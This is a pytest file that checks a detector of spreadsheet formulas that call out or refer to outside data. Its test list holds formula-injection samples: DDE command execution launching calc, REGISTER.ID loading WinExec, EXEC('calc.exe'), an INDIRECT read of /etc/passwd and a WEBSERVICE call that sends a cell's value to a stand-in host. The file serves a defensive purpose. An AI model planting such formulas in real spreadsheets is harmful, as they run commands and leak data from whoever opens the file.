"""Which formulas call nothing and refer to nothing outside: known functions alone, whatever the others are named."""

import pytest

from sheetnet.marking.inert import is_inert

CALLING = (
    '=WEBSERVICE("http://example.org/"&A1)',
    '=_xlfn.WEBSERVICE ("http://example.org/")',
    "='a\"'!A1+WEBSERVICE('b\"'!A1)",
    '=IF(1,SUM(_xlfn.STOCKHISTORY("MSFT",TODAY())))',
    '=CUBEVALUE("Sales","[Measures].[Profit]")',
    '=REGISTER.ID("kernel32","WinExec")',
    '=SQL.REQUEST("DSN=a","","","SELECT 1")',
    '=_xlfn.TRANSLATE("a","en","ja")',
    '=_xlfn._xlws.PY(0,1,"import os")',
    '=EUROCONVERT(1,"DEM","EUR")',
    "=INDIRECT(\"'file:///etc/[passwd]Sheet1'!A1\")",
    '=_xlfn.IMAGE("http://example.org/a.png")',
    '=HYPERLINK("http://example.org/","a")',
    '=HYPERLINK(A1&"#","a")',
    '=RTD("a",,"b")',
    '=DDE("soffice","a","b")',
    "=cmd|'/C calc'!A0",
    "=@SUM(1+1)*cmd|'/C calc'!A0",
    "=[1]Sheet1!A1",
    "='http://example.org/[a.xlsx]Sheet1'!A1",
    "='file:///tmp/a.ods'#$Sheet1.A1",
    "='\\\\example.org\\share\\[a.xlsx]Sheet1'!A1",
    "=Macro1!steal(A1)",
    "=_xlfn.MAP(A1:A2,_xleta.WEBSERVICE)",
    '=EXEC("calc.exe")',
    "=SU_xlfn.M(A1)",
    "=__xludf.DUMMYFUNCTION(A1)",
)
INERT = (
    "=SUMPRODUCT(Calc!R6:U6,Data!$B6:$E6)/COUNT(A1:A9)",
    '=IF(A1="call WEBSERVICE(1) | [2]","a","it""s (ok)")',
    "='It''s a sheet (2)'!A1^-(1+A2)",
    "=_xlfn.LET(_xlpm.a,1,_xlfn.LAMBDA(_xlpm.x,_xlpm.x+_xlpm.a)(2))",
    "=SUM(_xlfn._xlws.FILTER(A1:A9,(A1:A9>0)*(B1:B9<{1;2})))",
    "=-(A1 + (B1))%",
    "=#REF!+A1#",
    '=HYPERLINK("#"&"Calc!"&ADDRESS(1,2),"there")',
)


@pytest.mark.parametrize("formula", CALLING)
def test_a_formula_that_calls_out_or_refers_elsewhere_is_not_inert(formula: str) -> None:
    assert not is_inert(formula)


@pytest.mark.parametrize("formula", INERT)
def test_a_formula_of_known_functions_and_own_cells_is_inert(formula: str) -> None:
    assert is_inert(formula)


def test_what_is_longer_than_a_formula_may_be_is_not_inert() -> None:
    assert not is_inert("=1" + "+1" * 5000)
